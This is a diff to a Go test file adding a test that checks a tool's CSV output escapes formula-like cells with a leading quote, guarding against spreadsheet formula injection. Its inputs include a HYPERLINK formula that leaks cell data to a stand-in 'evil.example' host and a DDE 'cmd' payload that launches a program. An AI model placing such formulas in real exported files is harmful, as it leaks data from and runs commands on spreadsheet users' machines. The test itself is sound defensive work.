@@ -2,9 +2,11 @@ package admin
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -80,6 +82,39 @@ a b, "c" \x1b[2J \u202e<x>        -   x,y     a 1, b 2   {l 1}     2        -
 		}
 		if got := b.String(); got != c.want {
 			t.Errorf("%s:\n%s\nwant\n%s", c.form, got, c.want)
+		}
+	}
+}
+
+// What a stranger wrote is no formula in a spreadsheet, and comes back when one ' in front is taken away.
+func TestCSVHoldsNoFormulas(t *testing.T) {
+	t.Parallel()
+	type row struct {
+		Name  string   `json:"name"`
+		Email *string  `json:"email"`
+		Words []string `json:"words"`
+		N     int      `json:"n"`
+		Share *float64 `json:"share"`
+	}
+	below := -0.5
+	for text, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"open")`: `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
+		`=cmd|'/C+calc'!A0@evil.example`:                `'=cmd|'/C+calc'!A0@evil.example`,
+		"+1":                                            "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", "＝x": "'＝x", "＋x": "'＋x", "－x": "'－x", "＠x": "'＠x",
+		"'=x": "''=x", "'": "''", "": "", "a=b": "a=b", "ada+x@example.com": "ada+x@example.com", "2026-11-22": "2026-11-22", "12": "12",
+	} {
+		var b strings.Builder
+		tool := newTool(t.Context(), Env{Stdout: &b})
+		tool.form = formCSV
+		if err := tool.result([]row{{text, &text, []string{text}, -5, &below}}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got, want := rows[1], []string{want, want, want, "-5", "-0.5"}; !slices.Equal(got, want) {
+			t.Errorf("%q: %q, want %q", text, got, want)
 		}
 	}
 }
